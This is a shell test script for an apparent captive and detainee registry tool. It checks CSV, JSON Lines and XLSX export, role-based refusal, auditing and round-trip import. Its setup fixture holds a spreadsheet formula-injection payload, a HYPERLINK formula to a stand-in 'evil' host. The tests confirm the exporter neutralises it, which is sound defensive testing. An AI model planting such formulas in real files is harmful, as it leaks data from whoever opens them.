#!/bin/sh
# t0510-export.sh - parley export: CSV, JSON Lines, XLSX; filters; formulas neutralised;
# refused to roles without export; audited; an exported CSV imports again as it was
. ./lib.sh
need unzip

test_expect_success 'setup' '
	setup_office &&
	cat >in.csv <<-\EOF &&
	side,kind,family_name,given_name,birth_date,unit,note,status,citizenship,source,external_id
	captive,military,Ковальов,Сергій,1985-03-02,"=HYPERLINK(""http://evil/?x=""&A1)","два,
	рядки",confirmed,UA,icrc,E-1
	captive,civilian,Мельник,Ольга,1979,+380 44 000,@SUM(1),missing,UA,icrc,E-2
	detainee,military,Иванов,Пётр,1990-07,-2+3,"он сказал ""да""",held,RU,icrc,E-3
	EOF
	as reg import in.csv >out && expect_grep "3 added" out
'

test_expect_success 'export writes CSV with the header first and says how many' '
	as reg export all.csv 2>err &&
	expect_grep "^exported 3 persons to all.csv$" err &&
	head -n 1 all.csv | grep -q "^ref,side,kind,family_name,given_name,patronymic," &&
	expect_grep "^U-000001,captive,military,Ковальов,Сергій," all.csv &&
	expect_grep "^R-000001,detainee,military,Иванов," all.csv
'

test_expect_success 'cells that a spreadsheet would run as formulas get an apostrophe' '
	expect_grep "\"'"'"'=HYPERLINK(\"\"http://evil/?x=\"\"&A1)\"" all.csv &&
	expect_grep ",'"'"'+380 44 000," all.csv &&
	expect_grep ",'"'"'@SUM(1)," all.csv &&
	expect_grep ",'"'"'-2+3," all.csv &&
	expect_no_grep ",=HYPERLINK" all.csv
'

test_expect_success 'dates stay plain text' '
	expect_grep ",1985-03-02," all.csv &&
	expect_grep ",1990-07," all.csv
'

test_expect_success 'quotes, commas and newlines are quoted as RFC 4180 says' '
	expect_grep "\"он сказал \"\"да\"\"\"" all.csv &&
	expect_grep "\"два,$" all.csv
'

test_expect_success 'export refuses to replace a file (exit 2) unless --force' '
	cp all.csv keep.csv &&
	test_must_fail_with 2 as reg export all.csv 2>err &&
	expect_grep "exists" err &&
	cmp all.csv keep.csv &&
	as reg export --force --side detainee all.csv 2>err &&
	expect_grep "exported 1 person to all.csv" err &&
	test "$(grep -c "^R-" all.csv)" = 1 && test "$(grep -c "^U-" all.csv)" = 0
'

test_expect_success 'filters are those of person list' '
	as reg export --side captive --status confirmed conf.csv 2>err &&
	expect_grep "exported 1 person" err &&
	expect_grep "^U-000001," conf.csv &&
	test_must_fail_with 2 as reg export --status nonsense x.csv 2>err &&
	test ! -e x.csv
'

test_expect_success 'export to standard output' '
	as reg export - --format jsonl --kind civilian >out 2>err &&
	test "$(wc -l <out)" = 1 &&
	expect_grep "\"family_name\":\"Мельник\"" out &&
	expect_no_grep "exported" err
'

test_expect_success 'JSON Lines: one object a line, values as stored, no apostrophes' '
	as reg export all.jsonl 2>err &&
	test "$(wc -l <all.jsonl)" = 3 &&
	expect_grep "\"unit\":\"=HYPERLINK(" all.jsonl &&
	expect_grep "\"note\":\"два,\\\\nрядки\"" all.jsonl
'

test_expect_success 'XLSX is a zip workbook with one sheet' '
	as reg export all.xlsx 2>err &&
	expect_grep "exported 3 persons to all.xlsx" err &&
	test "$(head -c 2 all.xlsx)" = PK &&
	unzip -l all.xlsx >list &&
	expect_grep "xl/worksheets/sheet1.xml" list &&
	expect_no_grep "sheet2.xml" list &&
	unzip -p all.xlsx xl/worksheets/sheet1.xml >sheet &&
	expect_grep "pane ySplit=\"1\"" sheet &&
	expect_grep "'"'"'=HYPERLINK" sheet &&
	expect_no_grep "<f>" sheet
'

test_expect_code 2 'XLSX is not written to standard output' '
	as reg export - --format xlsx >out 2>err
' '
	expect_grep "xlsx" err && test ! -s out
'

test_expect_code 4 'export is refused to a liaison: no file, only the refusal audited' '
	parley_state >before &&
	as lia export lia.csv >out 2>err
' '
	expect_grep "permission denied: lia (liaison) may not export" err && test ! -s out &&
	test ! -e lia.csv && expect_denied_only before lia export
'

test_expect_code 4 'export is refused to an analyst: no file, only the refusal audited' '
	parley_state >before &&
	as ana export ana.csv >out 2>err
' '
	expect_grep "permission denied: ana (analyst) may not export" err && test ! -s out &&
	test ! -e ana.csv && expect_denied_only before ana export
'

test_expect_success 'head may export' '
	as head export head.csv 2>err && expect_grep "exported 3 persons" err
'

test_expect_success 'every export is audited with its filter, count and format' '
	as aud audit log --action export --limit 0 >log &&
	expect_grep "filter=all;count=3;format=csv" log &&
	expect_grep "filter=side:captive,status:confirmed;count=1;format=csv" log &&
	expect_grep "filter=kind:civilian;count=1;format=jsonl" log &&
	expect_grep "count=3;format=xlsx" log &&
	expect_grep "head" log
'

test_expect_success 'an exported CSV imports into a fresh file as it was' '
	rm -f all.csv && as reg export all.csv 2>/dev/null &&
	(
		PARLEY_DB="$TRASH/fresh.db" &&
		"$PARLEY" --db fresh.db init --admin adm >/dev/null &&
		"$PARLEY" --db fresh.db --as adm account add reg --role registrar --os-user "$ME" >/dev/null &&
		"$PARLEY" --db fresh.db --as reg import all.csv >out &&
		grep -q "imported 3 rows: 3 added, 0 updated" out &&
		"$PARLEY" --db fresh.db --as reg export again.csv 2>/dev/null
	) &&
	cmp all.csv again.csv
'

test_expect_success 'and again into the same file it only matches: only the import is recorded' '
	parley_state >before &&
	as reg import all.csv >out &&
	test "$(cat out)" = "imported 3 rows: 0 added, 3 updated" &&
	expect_written before 1 0 &&
	as reg person show U-000001 >show && expect_no_grep "old value" show
'

test_expect_success 'every filter narrows the export, and the audit record names each' '
	as reg export f.csv --side captive --status confirmed --kind military --health unknown \
		--sex unknown --unit "hyperlink" --text "ковальов" --citizenship UA 2>err &&
	expect_grep "exported 1 person to f.csv" err &&
	expect_grep "^U-000001," f.csv &&
	as reg export t.csv --tag medic 2>err &&
	expect_grep "exported 0 persons to t.csv" err &&
	test "$(wc -l <t.csv)" = 1 &&
	as aud audit log --action export --limit 2 >log &&
	expect_grep "filter=side:captive,status:confirmed,kind:military,health:unknown,sex:unknown,unit:hyperlink,text:ковальов,citizenship:UA;count=1;format=csv" log &&
	expect_grep "filter=tag:medic;count=0;format=csv" log
'

test_expect_success '--limit and --offset page through the persons, and are audited' '
	as reg export - --limit 1 >p1 &&
	as reg export - --limit 1 --offset 1 >p2 &&
	as reg export - --offset 2 >p3 &&
	test "$(grep -c "^[UR]-" p1)" = 1 && test "$(grep -c "^[UR]-" p2)" = 1 &&
	test "$(grep -c "^[UR]-" p3)" = 1 &&
	sort p1 p2 p3 | grep "^[UR]-" | cut -d, -f1 | sort -u >refs &&
	test "$(wc -l <refs)" = 3 &&
	as aud audit log --action export --limit 3 >log &&
	expect_grep "filter=limit:1;count=1" log &&
	expect_grep "filter=limit:1,offset:1;count=1" log &&
	expect_grep "filter=offset:2;count=1" log
'

test_expect_code 3 'an export into a folder that does not exist is refused, for every format' '
	before=$(audit_count) &&
	for f in csv jsonl xlsx; do
		test_must_fail_with 3 as reg export "nodir/all.$f" 2>err &&
		expect_grep "nodir/all.$f: No such file or directory" err || exit 1
	done &&
	test "$(audit_count)" = "$before" &&
	as reg export nodir/all.csv
' '
	test ! -e nodir
'

test_expect_code 1 'an export under a path that is no folder fails (exit 1) and leaves nothing' '
	echo "a file" >plain &&
	as reg export plain/all.csv 2>err
' '
	expect_grep "plain/all.csv: Not a directory" err &&
	test "$(cat plain)" = "a file"
'

test_expect_code 1 'a full disk fails the export (exit 1), named, and it is not audited' '
	before=$(audit_count) && echo "$before" >before &&
	as reg export - >/dev/full 2>err
' '
	expect_grep "No space left on device" err &&
	test "$(audit_count)" = "$(cat before)"
'

test_expect_code 1 '--force does not replace a folder: the export fails and leaves no temporary file' '
	mkdir folder && touch folder/kept &&
	as reg export folder --format csv --force 2>err
' '
	expect_grep "folder: Is a directory" err &&
	test -f folder/kept &&
	test -z "$(ls -d folder.* 2>/dev/null)"
'

test_expect_code 2 'a file name that tells no format needs --format' '
	as reg export persons.txt 2>err
' '
	expect_grep "cannot tell the format of persons.txt" err &&
	test ! -e persons.txt
'

test_expect_code 2 'an unknown --format is refused' '
	as reg export x.csv --format ods 2>err
' '
	expect_grep "ods" err && test ! -e x.csv
'

test_done
